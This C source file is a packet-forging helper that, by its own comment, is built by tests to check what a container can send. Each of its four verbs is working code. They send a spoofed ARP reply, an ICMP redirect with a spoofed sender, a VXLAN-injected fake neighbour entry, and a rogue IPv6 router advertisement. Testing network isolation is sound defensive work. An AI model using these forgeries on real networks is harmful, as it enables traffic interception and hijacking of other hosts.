/* Forged packets, as a container could send them with the rights that it has. Built by the tests, static. Each verb sends one.
 *   forger arp LINK ADDRESS                        an ARP reply to everybody: ADDRESS is at this MAC address
 *   forger redirect SENDER VICTIM TARGET GATEWAY   an ICMP redirect that seems to come from SENDER: send by GATEWAY what is for TARGET
 *   forger frame HOST VNI ADDRESS                  a datagram for an overlay network: the neighbour ADDRESS is at 02:00:00:00:00:66
 *   forger router LINK                             an ICMPv6 advertisement: this is a router, for 2001:db8:bad::/64, too */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

struct arp {
	unsigned short hardware, protocol;
	unsigned char hardware_length, protocol_length;
	unsigned short operation;
	unsigned char sender_mac[6], sender[4], target_mac[6], target[4];
} __attribute__((packed));

static int fail(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	return 1;
}

static unsigned short sum_of(const void *data, size_t length)
{
	const unsigned char *bytes = data;
	unsigned sum = 0;
	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (unsigned)(bytes[i] << 8 | bytes[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((unsigned short)~sum);
}

static int frame(const char *host, const char *vni, const char *address)
{
	struct {
		unsigned char flags, reserved[3];
		unsigned int vni;
		struct ether_header ether;
		struct arp arp;
	} __attribute__((packed)) packet = { 0 };
	static const unsigned char liar[6] = { 2, 0, 0, 0, 0, 0x66 };
	packet.flags = 8;
	packet.vni = htonl((unsigned)atoi(vni) << 8);
	memset(packet.ether.ether_dhost, 0xff, 6);
	memcpy(packet.ether.ether_shost, liar, 6);
	packet.ether.ether_type = htons(ETHERTYPE_ARP);
	packet.arp = (struct arp){ htons(1), htons(ETHERTYPE_IP), 6, 4, htons(2), { 0 }, { 0 }, { 0 }, { 0 } };
	memcpy(packet.arp.sender_mac, liar, 6);
	memcpy(packet.arp.target_mac, liar, 6);
	inet_pton(AF_INET, address, packet.arp.sender);
	inet_pton(AF_INET, address, packet.arp.target);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(4789) };
	inet_aton(host, &to.sin_addr);
	return sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0 ? fail("sendto") : 0;
}

static int arp(const char *link, const char *address)
{
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket");
	struct ifreq own = { 0 };
	strncpy(own.ifr_name, link, IFNAMSIZ - 1);
	if (ioctl(fd, SIOCGIFHWADDR, &own) < 0)
		return fail(link);
	struct arp reply = { htons(1), htons(ETHERTYPE_IP), 6, 4, htons(2), { 0 }, { 0 }, { 0 }, { 0 } };
	memcpy(reply.sender_mac, own.ifr_hwaddr.sa_data, 6);
	inet_pton(AF_INET, address, reply.sender);
	memcpy(reply.target_mac, reply.sender_mac, 6);
	memcpy(reply.target, reply.sender, 4);
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_ARP), .sll_halen = 6 };
	to.sll_ifindex = (int)if_nametoindex(link);
	memset(to.sll_addr, 0xff, 6);
	return sendto(fd, &reply, sizeof reply, 0, (struct sockaddr *)&to, sizeof to) < 0 ? fail("sendto") : 0;
}

static int redirect(char **addresses)
{
	struct {
		struct iphdr outer;
		struct icmphdr redirect;
		struct iphdr inner;
		struct icmphdr echo;
	} packet = { 0 };
	struct in_addr sender, victim, target, gateway;
	inet_aton(addresses[0], &sender);
	inet_aton(addresses[1], &victim);
	inet_aton(addresses[2], &target);
	inet_aton(addresses[3], &gateway);
	packet.outer = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_ICMP };
	packet.outer.tot_len = htons(sizeof packet);
	packet.inner = packet.outer;
	packet.outer.saddr = sender.s_addr;
	packet.outer.daddr = victim.s_addr;
	packet.inner.saddr = victim.s_addr;
	packet.inner.daddr = target.s_addr;
	packet.inner.check = sum_of(&packet.inner, sizeof packet.inner);
	packet.echo.type = ICMP_ECHOREPLY; /* the kernel's own: no socket of the victim's is asked */
	packet.echo.checksum = sum_of(&packet.echo, sizeof packet.echo);
	packet.redirect.type = ICMP_REDIRECT;
	packet.redirect.code = ICMP_REDIR_HOST;
	packet.redirect.un.gateway = gateway.s_addr;
	packet.redirect.checksum = sum_of(&packet.redirect, sizeof packet - sizeof packet.outer);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		return fail("socket");
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = victim };
	return sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0 ? fail("sendto") : 0;
}

static int router(const char *link)
{
	struct {
		struct nd_router_advert advert;
		struct nd_opt_prefix_info prefix;
	} packet = { 0 };
	packet.advert.nd_ra_type = ND_ROUTER_ADVERT;
	packet.advert.nd_ra_curhoplimit = 64;
	packet.advert.nd_ra_router_lifetime = htons(3600);
	packet.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	packet.prefix.nd_opt_pi_len = 4;
	packet.prefix.nd_opt_pi_prefix_len = 64;
	packet.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	packet.prefix.nd_opt_pi_valid_time = htonl(3600);
	packet.prefix.nd_opt_pi_preferred_time = htonl(3600);
	inet_pton(AF_INET6, "2001:db8:bad::", &packet.prefix.nd_opt_pi_prefix);
	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
	if (fd < 0)
		return fail("socket");
	int hops = 255;
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(link) };
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	return sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0 ? fail("sendto") : 0;
}

int main(int count, char **words)
{
	if (count == 4 && !strcmp(words[1], "arp"))
		return arp(words[2], words[3]);
	if (count == 6 && !strcmp(words[1], "redirect"))
		return redirect(words + 2);
	if (count == 5 && !strcmp(words[1], "frame"))
		return frame(words[2], words[3], words[4]);
	if (count == 3 && !strcmp(words[1], "router"))
		return router(words[2]);
	fputs("usage: forger arp|redirect|frame|router ...\n", stderr);
	return 2;
}
